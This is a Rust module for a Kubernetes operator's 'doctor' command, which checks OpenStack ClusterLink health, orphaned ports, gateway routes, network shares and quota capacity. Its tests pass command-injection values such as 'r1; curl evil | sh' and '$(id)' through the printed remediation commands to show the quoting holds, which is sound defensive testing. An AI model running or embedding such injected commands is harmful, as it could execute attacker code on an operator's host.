//! `doctor`: links that are not Ready, leg ports whose ClusterLink is gone, and gateway
//! routes that point at an address no port holds (or at a leg nobody owns any more); the
//! customer transits of `PerCustomer` links in `customer_transits`.
//! Every command it prints carries each value it interpolates as one shell word
//! (`bnerd_api::echo::shell_word`): a port's `device_id` is whatever its owner set.
//! One module: the checks share one read of the transit network's ports and one kind of
//! finding; the table tests at the bottom are half its length.

use std::net::Ipv4Addr;

use bnerd_api::ClusterLink;
use bnerd_api::ConditionType;
use bnerd_api::conditions::{find, is_true};
use bnerd_api::echo::shell_word;
use bnerd_api::names::{ANNOTATION_ABANDON, leg_owner_uid, link_name_in_tags};
use bnerd_cloud::fabric::{Fabric, FabricError};
use bnerd_cloud::{ACCESS_AS_SHARED, CloudError, Neutron, Port, PortQuery, Route};
use bnerd_engine::plan::capacity;
use bnerd_engine::plan::leg::{LegMark, leg_mark, leg_project};
use bnerd_engine::plan::remove_route_command;
use bnerd_engine::plan::share::share_command;

pub use crate::finding::Finding;

/// The abandon annotation on a link that is not being deleted. The operator reads it only
/// while a link is deleting, so it does nothing yet; but whoever deletes the link later
/// abandons its customer side without having decided it ("never set automatically — this
/// always needs a human decision"), e.g. after `kubectl annotate` on the wrong link, or on a
/// link that was recreated from one stuck in deletion by hand.
fn abandon_warning(l: &ClusterLink) -> Option<Finding> {
    if l.metadata.deletion_timestamp.is_some() {
        return None;
    }
    let value = l.metadata.annotations.as_ref()?.get(ANNOTATION_ABANDON)?;
    // The operator honours exactly "true" (controller.rs); any other value does nothing.
    if value != "true" {
        return None;
    }
    let name = l.metadata.name.as_deref().unwrap_or_default();
    Some(Finding::warning(format!(
        "ClusterLink {name}: annotation {ANNOTATION_ABANDON}=true is set but the link is not being deleted; when it is, its customer-side leg port, router attachment and reverse routes are left behind without cleanup. Unless that is decided for this link's next deletion, remove it: kubectl annotate clusterlink {} {ANNOTATION_ABANDON}-",
        shell_word(name)
    )))
}

fn link_health(l: &ClusterLink) -> Finding {
    let name = l.metadata.name.clone().unwrap_or_default();
    let Some(status) = &l.status else {
        return Finding::problem(format!(
            "ClusterLink {name}: no status yet; is the operator running?"
        ));
    };
    let conditions = &status.conditions;
    if is_true(conditions, ConditionType::Ready) {
        // Ready is the forward path; a reverse route that failed is a problem of its own.
        if let Some(c) =
            find(conditions, ConditionType::ReverseRoutesInstalled).filter(|c| c.status == "False")
        {
            return Finding::problem(format!(
                "ClusterLink {name}: Ready (forward path), but {}={} {}: {}",
                c.type_, c.status, c.reason, c.message
            ));
        }
        return Finding::ok(format!(
            "ClusterLink {name}: Ready, {} on router {}",
            status.transit_ip.as_deref().unwrap_or("?"),
            status.service_router_id.as_deref().unwrap_or("?")
        ));
    }
    // The first step (in the reconcile's order) that is not True is where it stopped.
    let stuck = ConditionType::ALL
        .iter()
        .filter_map(|t| find(conditions, *t))
        .find(|c| c.status != "True");
    Finding::problem(match stuck {
        Some(c) => format!(
            "ClusterLink {name}: not Ready, {}={} {}: {}",
            c.type_, c.status, c.reason, c.message
        ),
        None => format!("ClusterLink {name}: not Ready, no conditions yet"),
    })
}

fn ip_of(p: &Port) -> &str {
    p.first_ip().unwrap_or("no address")
}

/// The command that removes a port: a router interface is detached from its router (Neutron
/// refuses to delete it), any other port is deleted.
fn remove_port_hint(p: &Port) -> String {
    if p.is_router_interface() {
        format!(
            "openstack router remove port {} {}",
            shell_word(&p.device_id),
            shell_word(&p.id)
        )
    } else {
        format!("openstack port delete {}", shell_word(&p.id))
    }
}

/// What `doctor` found, and whether the cloud could be asked at all.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    pub findings: Vec<Finding>,
    /// Why the cloud checks did not run, when the cloud could not be asked (no answer, a
    /// server error, Keystone refusing the credential). Kept apart from the findings: it says
    /// nothing about whether the fabric is right, so it is "could not check" (exit 2), not a
    /// problem found (exit 1).
    pub unchecked: Option<String>,
}

/// The checks that need the cloud, named when they cannot run, so an empty list of problems
/// is not read as a clean cloud.
const CLOUD_CHECKS: &str = "the fabric, leg-port, gateway-route and share checks did not run";

/// Why the cloud could not be asked, if that is why discovering the fabric failed; None for a
/// fabric that answered but is wrong (a PROBLEM).
fn fabric_unchecked(e: &FabricError) -> Option<String> {
    let who = match e {
        FabricError::Keystone(source) => keystone_failure(source),
        _ if e.is_unreachable() => "the cloud could not be reached",
        _ => return None,
    };
    Some(format!("{who}, so {CLOUD_CHECKS}: {e}"))
}

/// How Keystone failed the operator's token request, in words a person acts on: an outage
/// to wait out, or a credential to fix.
fn keystone_failure(e: &CloudError) -> &'static str {
    if e.is_retryable() {
        "Keystone could not be reached"
    } else if e.auth_status().is_some() {
        "Keystone refused the operator's credential"
    } else {
        "Keystone gave the operator no usable token"
    }
}

/// A read after the fabric answered that failed: the checks that needed it could not run,
/// whatever the cause, so the report cannot claim the cloud side is clean.
fn read_unchecked(what: &str, e: &CloudError) -> String {
    let who = if e.is_keystone() {
        keystone_failure(e)
    } else if e.is_retryable() {
        "the cloud could not be reached"
    } else {
        "the cloud refused"
    };
    format!("{who} while {what}, so the remaining cloud checks did not run: {e}")
}

/// Check every link (from Kubernetes alone), then the fabric and the cloud side against the
/// links. The links are reported even when the cloud cannot be asked: they are what a person
/// running `doctor` during an outage most needs.
pub async fn diagnose(
    net: &dyn Neutron,
    network_id: &str,
    gateway_router_id: &str,
    links: &[ClusterLink],
) -> Report {
    let mut out = vec![];
    let fabric = Fabric::discover(net, network_id, gateway_router_id).await;
    if let Ok(f) = &fabric {
        out.push(Finding::ok(format!(
            "fabric: transit network {} ({}), gateway router {} has its leg",
            f.transit_network_id, f.transit_subnet, f.gateway_router_id
        )));
    }
    out.extend(links.iter().map(link_health));
    out.extend(links.iter().filter_map(abandon_warning));
    let fabric = match fabric {
        Ok(f) => f,
        Err(e) => {
            let unchecked = fabric_unchecked(&e);
            if unchecked.is_none() {
                out.push(Finding::problem(format!("fabric: {e}")));
            }
            return Report {
                findings: out,
                unchecked,
            };
        }
    };
    let mut unchecked = cloud_findings(net, &fabric, links, &mut out).await.err();
    if unchecked.is_none() {
        match crate::customer_transits::findings(net, &fabric, links).await {
            Ok(f) => out.extend(f),
            Err(e) => unchecked = Some(e),
        }
    }
    if unchecked.is_none() {
        out.extend(capacity_findings(net, &fabric).await);
    }
    Report {
        findings: out,
        unchecked,
    }
}

/// The operator project's capacity (docs/operations.md, "Neutron's quotas"), as the operator
/// reads it at each fabric check: one row per limit, a warning at 80 % or more naming the
/// command that raises it, and how many more links of each kind fit. A credential that may
/// not read the project's quota details gets a warning saying so, not a failed run.
pub async fn capacity_findings(net: &dyn Neutron, fabric: &Fabric) -> Vec<Finding> {
    let project = &fabric.operator_project_id;
    let quota = match net.quota_details(project).await {
        Ok(q) => q,
        Err(e) => {
            return vec![Finding::warning(format!(
                "capacity: the quota details of project {project} could not be read ({e}); \
                 run doctor with the operator's credential to see them"
            ))];
        }
    };
    let rows = capacity::rows(&quota, fabric.gateway_routes);
    let mut out: Vec<Finding> = rows
        .iter()
        .map(|r| match r.level() {
            capacity::Level::Room => Finding::ok(format!("capacity: {}", r.describe())),
            capacity::Level::Near | capacity::Level::Full => Finding::warning(format!(
                "capacity: {}; to raise it: {}",
                r.describe(),
                r.raise(project)
            )),
        })
        .collect();
    let own = own_ports_per_network(net, fabric).await;
    out.push(Finding::ok(format!(
        "capacity: {}",
        capacity::forecast(&rows, own).describe()
    )));
    out
}

/// The ports Neutron makes by itself with a new network (ML2/OVN's metadata port), judged by
/// the transit network's (`capacity::own_ports_per_network`). A read that fails counts the
/// port, so the forecast and the plan's hint err towards less room, never more.
pub(crate) async fn own_ports_per_network(net: &dyn Neutron, fabric: &Fabric) -> u64 {
    match net
        .list_ports(&PortQuery::metadata_ports(&fabric.transit_network_id))
        .await
    {
        Ok(ports) => capacity::own_ports_per_network(&ports),
        Err(_) => 1,
    }
}

/// Orphaned legs, legs gone, and gateway routes, appended to `out`; Err says why the rest
/// could not be checked.
async fn cloud_findings(
    net: &dyn Neutron,
    fabric: &Fabric,
    links: &[ClusterLink],
    out: &mut Vec<Finding>,
) -> Result<(), String> {
    let ports = net
        .list_ports(&PortQuery {
            network_id: Some(fabric.transit_network_id.clone()),
            ..Default::default()
        })
        .await
        .map_err(|e| read_unchecked("listing the transit network's ports", &e))?;
    let live = |uid: &str| links.iter().any(|l| l.metadata.uid.as_deref() == Some(uid));
    let orphan = |p: &Port| leg_owner_uid(&p.tags, &p.description).is_some_and(|uid| !live(uid));
    for p in ports.iter().filter(|p| orphan(p)) {
        let who = link_name_in_tags(&p.tags)
            .map(|n| format!("ClusterLink {n}"))
            .unwrap_or_else(|| {
                format!(
                    "ClusterLink uid {}",
                    leg_owner_uid(&p.tags, &p.description).unwrap_or("?")
                )
            });
        out.push(Finding::problem(format!(
            "port {} at {} is the leg of {who}, which no longer exists; remove it: {}",
            p.id,
            ip_of(p),
            remove_port_hint(p)
        )));
    }
    out.extend(forged_findings(&ports, fabric, links));
    // A PerCustomer link's leg is on its customer transit (`customer_transits`).
    for l in links.iter().filter(|l| !l.spec.per_customer()) {
        let Some(id) = l.status.as_ref().and_then(|s| s.leg_port_id.as_deref()) else {
            continue;
        };
        if !ports.iter().any(|p| p.id == id) {
            out.push(Finding::ok(format!(
                "ClusterLink {}: leg port {id} is gone from the transit network; the operator rebuilds it at its next reconcile",
                l.metadata.name.as_deref().unwrap_or_default()
            )));
        }
    }

    let gw = net
        .get_router(&fabric.gateway_router_id)
        .await
        .map_err(|e| read_unchecked("reading the gateway router", &e))?;
    for r in &gw.routes {
        let Ok(hop) = r.nexthop.parse::<Ipv4Addr>() else {
            continue;
        };
        if !fabric.transit_subnet.contains(&hop) {
            continue;
        }
        let recorded = links.iter().any(|l| {
            l.status
                .as_ref()
                .and_then(|s| s.gateway_route.as_ref())
                .is_some_and(|g| Route::new(&g.destination, &g.nexthop) == *r)
        });
        out.push(match ports.iter().find(|p| p.has_ip(&r.nexthop)) {
            None => Finding::problem(format!(
                "gateway router route {} via {}: no port holds {}, so the traffic goes nowhere and whoever gets that address next receives it; remove it: {}",
                r.destination,
                r.nexthop,
                r.nexthop,
                remove_route_command(r, &gw.id)
            )),
            Some(p) if orphan(p) => Finding::problem(format!(
                "gateway router route {} via {}: that address is the leg port {} of a ClusterLink that no longer exists; remove the route first: {}",
                r.destination,
                r.nexthop,
                p.id,
                remove_route_command(r, &gw.id)
            )),
            Some(_) if recorded => Finding::ok(format!(
                "gateway router route {} via {}",
                r.destination, r.nexthop
            )),
            Some(p) => Finding::ok(format!(
                "gateway router route {} via {} (port {}) is not recorded by any ClusterLink: hand-made, left alone",
                r.destination, r.nexthop, p.id
            )),
        });
    }
    Ok(())
}

/// Ports carrying a live link's UID in another project than the one the link builds in: by
/// the ownership rule the operator applies (`bnerd_engine::plan::leg::leg_mark`) they are not
/// its legs, so it leaves them alone; someone made them, and a person should know.
pub fn forged_findings(ports: &[Port], fabric: &Fabric, links: &[ClusterLink]) -> Vec<Finding> {
    let mut out = vec![];
    for l in links {
        let Some(uid) = l.metadata.uid.as_deref() else {
            continue;
        };
        let default_status = bnerd_api::ClusterLinkStatus::default();
        let status = l.status.as_ref().unwrap_or(&default_status);
        let project = leg_project(&l.spec, status, &fabric.operator_project_id);
        for p in ports
            .iter()
            .filter(|p| leg_mark(p, uid, project) == LegMark::Forged)
        {
            out.push(Finding::problem(format!(
                "port {} at {} carries the UID of ClusterLink {} but belongs to project {}, not {} (the project that link builds in): it is not that link's leg and the operator leaves it alone (never adopted, removed or routed to); find out who made it, then remove it: openstack port delete {}",
                p.id,
                ip_of(p),
                l.metadata.name.as_deref().unwrap_or_default(),
                if p.project_id.is_empty() { "(none)" } else { p.project_id.as_str() },
                project.unwrap_or("(none named)"),
                shell_word(&p.id)
            )));
        }
    }
    out
}

/// What the doctor could get of a cross-tenant link's customer credential.
pub enum CustomerView {
    /// A client on the customer's application credential (at the operator's own endpoint).
    Client(Box<dyn Neutron>),
    /// Why it could not: the Secret is not readable with the current kubeconfig, or lacks
    /// the application-credential keys.
    Unreadable(String),
}

/// A cross-tenant link to check: its name, its customer project, its transit isolation mode,
/// its credential.
pub struct CrossTenantLink {
    pub name: String,
    pub project: String,
    /// `spec.transitIsolation: PerCustomer`: its leg stands on the project's customer transit.
    pub per_customer: bool,
    pub view: CustomerView,
}

/// What `share_findings` checks, decided from the links alone (indices into them).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShareCheck {
    /// A `Shared` link: its leg stands on the transit network, so its project must see it.
    Visible { link: usize },
    /// Every cross-tenant link of `project` is `PerCustomer`: the transit network must not be
    /// shared with it, or the project still reaches every linked cluster from a port there.
    NotShared { project: String, links: Vec<usize> },
    /// `PerCustomer` links of a project that still has `Shared` ones: the share stays for
    /// those until they are moved too.
    KeptFor {
        project: String,
        per_customer: Vec<usize>,
        shared: Vec<usize>,
    },
}

/// One check per `Shared` link, in order; one per project for its `PerCustomer` links, where
/// the project's first one stands. A project with at least one `Shared` link (deleting or
/// not: its leg stays on the transit until its unwind is done) keeps the share.
pub fn share_checks(links: &[CrossTenantLink]) -> Vec<ShareCheck> {
    let mut out = vec![];
    let mut seen: Vec<&str> = vec![];
    for (i, l) in links.iter().enumerate() {
        if !l.per_customer {
            out.push(ShareCheck::Visible { link: i });
            continue;
        }
        if seen.contains(&l.project.as_str()) {
            continue;
        }
        seen.push(&l.project);
        let of = |per_customer: bool| -> Vec<usize> {
            links
                .iter()
                .enumerate()
                .filter(|(_, o)| o.project == l.project && o.per_customer == per_customer)
                .map(|(j, _)| j)
                .collect()
        };
        let (per_customer, shared) = (of(true), of(false));
        out.push(if shared.is_empty() {
            ShareCheck::NotShared {
                project: l.project.clone(),
                links: per_customer,
            }
        } else {
            ShareCheck::KeptFor {
                project: l.project.clone(),
                per_customer,
                shared,
            }
        });
    }
    out
}

/// What a project's own credential sees of the transit network.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Seen {
    Visible,
    Hidden,
    /// Its credential could not be read (why).
    Unchecked(String),
    /// The look failed (why).
    Failed(String),
}

/// The verdict on a project whose cross-tenant links are all `PerCustomer`: `own` are the
/// IDs of the operator's own rules sharing the transit network with it (what
/// `decommission-share` removes), `seen` what the project's credential sees (which also
/// catches a rule an admin made, invisible to the operator's credential; how an admin finds
/// and removes such a rule: docs/operations.md, "Decommission a share").
pub fn not_shared_finding(
    network_id: &str,
    project: &str,
    links: &[&str],
    own: &[&str],
    seen: &Seen,
) -> Finding {
    let who = format!(
        "project {project} (its ClusterLink(s) {} are all spec.transitIsolation: PerCustomer)",
        links.join(", ")
    );
    let reach = "the project can still make ports on the main transit network and reach every linked cluster from them, the reach PerCustomer is meant to take away";
    let command = crate::share::decommission_command(project, false);
    if !own.is_empty() {
        return Finding::problem(format!(
            "{who}: the transit network {network_id} is still shared with it (the operator's RBAC rule(s) {}): {reach}; remove the share (a dry run lists it, --yes removes it): {command}",
            own.join(", ")
        ));
    }
    match seen {
        Seen::Visible => Finding::problem(format!(
            "{who}: the transit network {network_id} is still visible to it, through a rule the operator's credential cannot see (an admin's): {reach}; an OpenStack admin finds it with openstack network rbac list --target-project {} --type network -f value -c ID -c \"Object ID\" --long and removes it with openstack network rbac delete <rbac-policy-id> ({command} names only the operator's own rules)",
            shell_word(project)
        )),
        Seen::Hidden => Finding::ok(format!("{who}: the transit network is not shared with it")),
        Seen::Unchecked(why) => Finding::ok(format!(
            "{who}: no rule of the operator's shares the transit network with it; a rule an admin made was not checked: {why}"
        )),
        Seen::Failed(e) => Finding::problem(format!(
            "{who}: no rule of the operator's shares the transit network with it, but checking with the customer credential whether another rule does failed: {e}"
        )),
    }
}

/// What the project's credential sees of the transit network.
async fn seen(view: &CustomerView, network_id: &str) -> Seen {
    match view {
        CustomerView::Unreadable(why) => Seen::Unchecked(why.clone()),
        CustomerView::Client(net) => match net.get_network(network_id).await {
            Ok(_) => Seen::Visible,
            Err(e) if e.is_not_found() => Seen::Hidden,
            Err(e) => Seen::Failed(e.to_string()),
        },
    }
}

/// The share of the transit network with each cross-tenant link's project: a `Shared`
/// link's project must see it (the share the operator re-ensures at every reconcile),
/// checked with the customer's own credential where the doctor can read it; a project whose
/// links are all `PerCustomer` must not (checked on the operator's own rules, one read, and
/// with the project's credential). Err when the operator's rules could not be read.
pub async fn share_findings(
    net: &dyn Neutron,
    network_id: &str,
    links: &[CrossTenantLink],
) -> Result<Vec<Finding>, String> {
    let checks = share_checks(links);
    let own_rules = if checks
        .iter()
        .any(|c| matches!(c, ShareCheck::NotShared { .. }))
    {
        net.list_rbac_policies(network_id)
            .await
            .map_err(|e| read_unchecked("listing the transit network's RBAC rules", &e))?
    } else {
        vec![]
    };
    let mut out = vec![];
    for check in checks {
        match check {
            ShareCheck::Visible { link } => {
                let l = &links[link];
                let (name, project) = (&l.name, &l.project);
                out.push(match seen(&l.view, network_id).await {
                    Seen::Unchecked(why) => Finding::ok(format!(
                        "ClusterLink {name}: share with project {project} not checked: {why}"
                    )),
                    Seen::Visible => Finding::ok(format!(
                        "ClusterLink {name}: the transit network is visible to project {project} (shared)"
                    )),
                    Seen::Hidden => Finding::problem(format!(
                        "ClusterLink {name}: the transit network {network_id} is not visible to project {project}; the operator shares it at the link's next reconcile, or an OpenStack admin runs once: {}",
                        share_command(project, network_id)
                    )),
                    Seen::Failed(e) => Finding::problem(format!(
                        "ClusterLink {name}: checking the share with project {project} with the customer credential failed: {e}"
                    )),
                });
            }
            ShareCheck::NotShared { project, links: of } => {
                let own: Vec<&str> = own_rules
                    .iter()
                    .filter(|p| p.action == ACCESS_AS_SHARED && p.target_tenant == project)
                    .map(|p| p.id.as_str())
                    .collect();
                let names: Vec<&str> = of.iter().map(|i| links[*i].name.as_str()).collect();
                // Any one of the project's credentials sees what the project sees: the first
                // readable one is asked, and only when no rule of the operator's already
                // answers the question.
                let views: Vec<&CustomerView> = of.iter().map(|i| &links[*i].view).collect();
                let view = views
                    .iter()
                    .find(|v| matches!(v, CustomerView::Client(_)))
                    .or(views.first());
                let seen = match view {
                    Some(v) if own.is_empty() => seen(v, network_id).await,
                    _ => Seen::Unchecked("the project's credential was not asked".into()),
                };
                out.push(not_shared_finding(
                    network_id, &project, &names, &own, &seen,
                ));
            }
            ShareCheck::KeptFor {
                project,
                per_customer,
                shared,
            } => {
                let names = |of: &[usize]| {
                    of.iter()
                        .map(|i| links[*i].name.as_str())
                        .collect::<Vec<_>>()
                        .join(", ")
                };
                out.push(Finding::ok(format!(
                    "project {project}: its PerCustomer ClusterLink(s) {} do not need the transit network shared with it, but its Shared ClusterLink(s) {} do; once those are moved (kubectl clusterlink recreate <name> --isolation PerCustomer), remove the share: {}",
                    names(&per_customer),
                    names(&shared),
                    crate::share::decommission_command(&project, false)
                )));
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_ready_link_with_failed_reverse_routes_is_a_problem() {
        use bnerd_api::Reason;
        use bnerd_api::conditions::{Status, set_condition};
        let mut l = ClusterLink::new("a", Default::default());
        let mut st = bnerd_api::ClusterLinkStatus::default();
        let now = k8s_openapi::jiff::Timestamp::now();
        set_condition(
            &mut st.conditions,
            ConditionType::Ready,
            Status::True,
            Reason::Ready,
            "leg attached and gateway route installed",
            None,
            now,
        );
        set_condition(
            &mut st.conditions,
            ConditionType::ReverseRoutesInstalled,
            Status::True,
            Reason::Installed,
            "1 reverse route(s)",
            None,
            now,
        );
        l.status = Some(st.clone());
        assert!(!link_health(&l).problem);
        set_condition(
            &mut st.conditions,
            ConditionType::ReverseRoutesInstalled,
            Status::False,
            Reason::EnsureReverseRoutesFailed,
            "IPsecGateway n/g refused",
            None,
            now,
        );
        l.status = Some(st);
        let f = link_health(&l);
        assert!(f.problem);
        assert!(
            f.text
                .contains("Ready (forward path), but ReverseRoutesInstalled=False"),
            "{}",
            f.text
        );
    }

    fn keystone(status: Option<u16>) -> CloudError {
        match status {
            Some(s) => CloudError::Auth {
                status: Some(s),
                message: format!("Keystone answered HTTP {s} to the token request"),
            },
            None => CloudError::Transport {
                method: "POST".into(),
                path: bnerd_cloud::error::KEYSTONE_TOKENS_PATH.into(),
                message: "Connection refused".into(),
            },
        }
    }

    fn neutron(status: u16) -> CloudError {
        CloudError::Api {
            method: "GET".into(),
            path: "/v2.0/networks/n".into(),
            status,
            kind: String::new(),
            message: "m".into(),
        }
    }

    fn link_with(annotations: &[(&str, &str)], deleting: bool) -> ClusterLink {
        let mut l = ClusterLink::new("l1", Default::default());
        l.metadata.annotations = Some(
            annotations
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        );
        if deleting {
            l.metadata.deletion_timestamp =
                Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(
                    k8s_openapi::jiff::Timestamp::UNIX_EPOCH,
                ));
        }
        l
    }

    /// The abandon annotation on a live link is a warning (not a problem: nothing is wrong
    /// yet) naming the command that removes it; on a deleting link it is what it is for.
    #[test]
    fn an_abandon_annotation_on_a_live_link_is_a_warning() {
        let w =
            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "true")], false)).expect("a warning");
        assert!(w.warning && !w.problem, "{w:?}");
        assert!(
            w.text.contains("not being deleted")
                && w.text.ends_with(
                    "kubectl annotate clusterlink l1 ipsec.bnerd.net/abandon-customer-resources-"
                ),
            "{}",
            w.text
        );
        assert_eq!(
            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "true")], true)),
            None
        );
        assert_eq!(
            abandon_warning(&link_with(&[(ANNOTATION_ABANDON, "false")], false)),
            None
        );
        assert_eq!(abandon_warning(&link_with(&[("a", "b")], false)), None);
    }

    /// A port's device_id is whatever its owner set: the remove command carries it as one
    /// quoted word, so pasting it runs nothing else.
    #[test]
    fn remove_commands_quote_what_the_cloud_said() {
        let p = Port {
            id: "p1".into(),
            device_id: "r1; curl evil | sh".into(),
            device_owner: "network:router_interface".into(),
            ..Default::default()
        };
        assert_eq!(
            remove_port_hint(&p),
            "openstack router remove port 'r1; curl evil | sh' p1"
        );
        let plain = Port {
            device_id: "0c3e8f5a-1111-4222-8333-444455556666".into(),
            ..p.clone()
        };
        assert_eq!(
            remove_port_hint(&plain),
            "openstack router remove port 0c3e8f5a-1111-4222-8333-444455556666 p1"
        );
        // Not a router interface: deleted, whatever device_id says.
        let loose = Port {
            device_owner: "compute:nova".into(),
            ..p
        };
        assert_eq!(remove_port_hint(&loose), "openstack port delete p1");
        assert_eq!(
            remove_route_command(&Route::new("10.1.0.0/16", "10.254.0.3"), "gw $(id)"),
            "openstack router remove route --route destination=10.1.0.0/16,gateway=10.254.0.3 'gw $(id)'"
        );
    }

    fn cross(name: &str, project: &str, per_customer: bool) -> CrossTenantLink {
        CrossTenantLink {
            name: name.into(),
            project: project.into(),
            per_customer,
            view: CustomerView::Unreadable("no secret".into()),
        }
    }

    /// A `Shared` link keeps its own visibility check, in place; a project whose links are
    /// all `PerCustomer` gets one check that the transit network is NOT shared with it; a
    /// project with both keeps the share for its `Shared` links.
    #[test]
    fn the_share_check_is_inverted_for_a_project_whose_links_are_all_per_customer() {
        use ShareCheck::{KeptFor, NotShared, Visible};
        let not_shared = |project: &str, links: Vec<usize>| NotShared {
            project: project.into(),
            links,
        };
        let cases: Vec<(&str, Vec<CrossTenantLink>, Vec<ShareCheck>)> = vec![
            ("no links", vec![], vec![]),
            (
                "Shared links: each checked as before",
                vec![
                    cross("a", "p1", false),
                    cross("b", "p1", false),
                    cross("c", "p2", false),
                ],
                vec![
                    Visible { link: 0 },
                    Visible { link: 1 },
                    Visible { link: 2 },
                ],
            ),
            (
                "one PerCustomer link: its project must not see the transit",
                vec![cross("a", "p1", true)],
                vec![not_shared("p1", vec![0])],
            ),
            (
                "all PerCustomer: one check for the project",
                vec![
                    cross("a", "p1", true),
                    cross("b", "p2", false),
                    cross("c", "p1", true),
                ],
                vec![not_shared("p1", vec![0, 2]), Visible { link: 1 }],
            ),
            (
                "one Shared link left: the share stays for it",
                vec![
                    cross("a", "p1", true),
                    cross("b", "p1", false),
                    cross("c", "p1", true),
                ],
                vec![
                    KeptFor {
                        project: "p1".into(),
                        per_customer: vec![0, 2],
                        shared: vec![1],
                    },
                    Visible { link: 1 },
                ],
            ),
            (
                "the Shared link first",
                vec![cross("b", "p1", false), cross("a", "p1", true)],
                vec![
                    Visible { link: 0 },
                    KeptFor {
                        project: "p1".into(),
                        per_customer: vec![1],
                        shared: vec![0],
                    },
                ],
            ),
        ];
        for (what, links, want) in cases {
            assert_eq!(share_checks(&links), want, "{what}");
        }
    }

    /// For a project whose links are all `PerCustomer`, a share of the main transit is the
    /// problem: the operator's own rule names `decommission-share`, one only the project's
    /// credential sees names the admin's commands; none is fine.
    #[test]
    fn a_per_customer_projects_share_of_the_transit_is_the_problem() {
        let p = "0123456789abcdef0123456789abcdef";
        let cases: Vec<(&[&str], Seen, bool, &[&str])> = vec![
            (
                &["rbac1"],
                Seen::Unchecked("unreadable".into()),
                true,
                &[
                    "still shared with it (the operator's RBAC rule(s) rbac1)",
                    "can still make ports on the main transit network and reach every linked cluster",
                    "kubectl clusterlink decommission-share --project 0123456789abcdef0123456789abcdef",
                ],
            ),
            (&["rbac1"], Seen::Hidden, true, &["decommission-share"]),
            (
                &[],
                Seen::Visible,
                true,
                &[
                    "still visible to it, through a rule the operator's credential cannot see",
                    "reach every linked cluster",
                    "openstack network rbac list --target-project 0123456789abcdef0123456789abcdef",
                ],
            ),
            (&[], Seen::Hidden, false, &["is not shared with it"]),
            (
                &[],
                Seen::Unchecked("cannot read secret ns/s".into()),
                false,
                &["a rule an admin made was not checked: cannot read secret ns/s"],
            ),
            (
                &[],
                Seen::Failed("HTTP 500".into()),
                true,
                &["failed: HTTP 500"],
            ),
        ];
        for (own, seen, problem, says) in cases {
            let f = not_shared_finding("transit", p, &["a", "b"], own, &seen);
            assert_eq!(f.problem, problem, "{own:?} {seen:?}: {}", f.text);
            assert!(!f.warning);
            assert!(
                f.text.starts_with(&format!(
                    "project {p} (its ClusterLink(s) a, b are all spec.transitIsolation: PerCustomer)"
                )),
                "{}",
                f.text
            );
            for s in says {
                assert!(f.text.contains(s), "{own:?} {seen:?}: {} lacks {s}", f.text);
            }
            // It never asks for the share to be made, as the Shared check does.
            assert!(!f.text.contains("rbac create"), "{}", f.text);
        }
        // What a project ID smuggled in stays one word of the printed command.
        let f = not_shared_finding("t", "p $(id)", &["a"], &["r"], &Seen::Hidden);
        assert!(
            f.text
                .ends_with("kubectl clusterlink decommission-share --project 'p $(id)'"),
            "{}",
            f.text
        );
        let f = not_shared_finding("t", "p $(id)", &["a"], &[], &Seen::Visible);
        assert!(
            f.text.contains("--target-project 'p $(id)' --type"),
            "{}",
            f.text
        );
    }

    /// The cloud not answering, or Keystone refusing the credential, is "could not check";
    /// a fabric that answered and is wrong is a problem.
    #[test]
    fn unreachable_or_refused_is_unchecked_a_wrong_fabric_is_a_problem() {
        let net = |source| FabricError::Network {
            id: "n".into(),
            source,
        };
        for (e, want) in [
            (
                FabricError::Keystone(keystone(None)),
                Some("Keystone could not be reached"),
            ),
            (
                FabricError::Keystone(keystone(Some(503))),
                Some("Keystone could not be reached"),
            ),
            (
                FabricError::Keystone(keystone(Some(401))),
                Some("Keystone refused the operator's credential"),
            ),
            (net(neutron(503)), Some("the cloud could not be reached")),
            (net(neutron(404)), None),
            (FabricError::SharedNetwork("n".into()), None),
            (FabricError::NoSafeRouteUpdate, None),
        ] {
            let got = fabric_unchecked(&e);
            match want {
                None => assert_eq!(got, None, "{e}"),
                Some(w) => {
                    let got = got.unwrap_or_default();
                    assert!(
                        got.starts_with(w)
                            && got.contains(CLOUD_CHECKS)
                            && got.contains(&e.to_string()),
                        "{e}: {got}"
                    );
                }
            }
        }
    }
}
